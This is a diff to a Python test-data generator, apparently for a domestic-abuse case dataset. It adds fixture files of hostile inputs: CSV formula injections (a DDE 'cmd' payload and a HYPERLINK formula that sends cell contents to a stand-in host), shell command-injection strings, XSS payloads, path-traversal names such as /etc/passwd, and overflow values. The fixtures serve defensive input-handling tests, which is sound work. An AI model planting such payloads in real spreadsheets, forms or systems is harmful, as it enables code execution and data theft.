@@ -212,3 +212,55 @@ pii |= set(FORENAMES) | set(SUSPECTS) | set(SURNAMES)
 with open("pii.txt", "w") as f:
     for v in sorted(pii):
         f.write(v + "\n")
+
+# Hostile values.  Each is a string a program might be tempted to
+# evaluate, interpret or trust: spreadsheet formulas, shell syntax,
+# markup, path names, numbers beyond any integer type, dates at the ends
+# of the calendar.
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"open")',
+            "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "=cmd|' /C calc'!A0",
+            "=1+1", "+44 20 7946 0000", "-", "@"]
+SHELL = ["$(touch pwned)", "`touch pwned`", "; touch pwned;",
+         "| touch pwned", "&& touch pwned", "$HOME ${PATH} %s %n %x"]
+HTML = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
+        "Ann & Bob 'quoted' \"twice\"", "</td></tr></table><h1>x</h1>",
+        "<!-- comment -->", "&lt;already escaped&gt;"]
+PATHS = ["../../../../tmp/vawg-escape", ".hidden", "..", ".", "a/b/c",
+         "-rf", "/etc/passwd", "index", "CON", "x" * 300, " ", "\\..\\x"]
+HUGE = ["99999999999999999999999999999999", "18446744073709551617",
+        "-9223372036854775809", "1e400", "-1", "NaN", "inf", "0x7fffffff"]
+YEARS = ["0000-01-01", "9999-12-31", "0000-00-00", "0001-01-01",
+         "10000-01-01", "1799-12-31", "2200-01-01"]
+
+hostile = FORMULAS + SHELL + HTML + PATHS
+
+
+def hostile_rows(header, gen, n):
+    rows = [list(r) for r in gen(n)]
+    for k, r in enumerate(rows):
+        for j, col in enumerate(header):
+            if col.endswith(("_forename", "_surname", "_desc", "ward",
+                             "concern")):
+                r[j] = hostile[(k + j) % len(hostile)]
+            elif col.endswith(("_ref",)) and kind == "marac":
+                r[j] = PATHS[k % len(PATHS)]
+            elif col.endswith(("_date", "_dob")) and k % 5 == 4:
+                r[j] = YEARS[k % len(YEARS)]
+            elif col in ("dash_score", "breach_count", "outcome_code",
+                         "population", "female_16plus") and k % 3 == 2:
+                r[j] = HUGE[k % len(HUGE)]
+    return rows
+
+
+for kind, header, gen in KINDS:
+    write("hostile-" + kind + ".csv", header,
+          hostile_rows(header, gen, max(len(hostile), len(PATHS) * 2)))
+with open("hostile-population.csv", "w", newline="") as f:
+    w = csv.writer(f, lineterminator="\n")
+    w.writerow(POP)
+    for i, b in enumerate(BOROUGHS):
+        w.writerow([b, "2024", HUGE[i], HUGE[i + 2]])
+        w.writerow([b, "2025", "0", "0"])
+with open("hostile-values.txt", "w") as f:
+    for v in FORMULAS + SHELL + HTML:
+        f.write(v + "\n")
